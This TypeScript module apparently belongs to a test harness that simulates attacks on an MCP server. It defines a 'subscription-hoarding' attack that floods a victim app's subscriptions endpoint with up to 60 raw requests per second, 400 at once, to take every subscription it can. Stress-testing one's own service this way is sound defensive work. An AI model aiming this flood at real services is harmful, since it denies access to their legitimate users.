import type { Attack } from '../attack.ts'
import { callRaw, headOf, mcpHeaders } from '../tools/raw-caller.ts'
import { repeat } from '../tools/repeat.ts'

const METHOD = 'subscriptions/listen'

/** As many subscriptions to the victim's app as one buyer can get hold of, and more asked for all the time. */
export const subscriptionHoarding: Attack = {
  name: 'subscription-hoarding',
  about: 'one buyer takes every subscription of an app that it can get',
  run({ baseUrl, attacker, victim }, signal, tally) {
    const body = JSON.stringify({ jsonrpc: '2.0', id: 'x', method: METHOD, params: { notifications: [], token: 'x' } })
    const headers = { ...mcpHeaders(attacker.rich.key, METHOD, METHOD), 'content-length': String(body.length) }
    const text = headOf(`/v1-beta/mcp/${victim.mcpApp}`, { ...headers, connection: 'close' }) + body
    return repeat({ perSecond: 60, atOnceMax: 400 }, signal, tally, async () => {
      await callRaw({ baseUrl, text, from: '127.0.1.5', signal, tally })
    })
  },
}
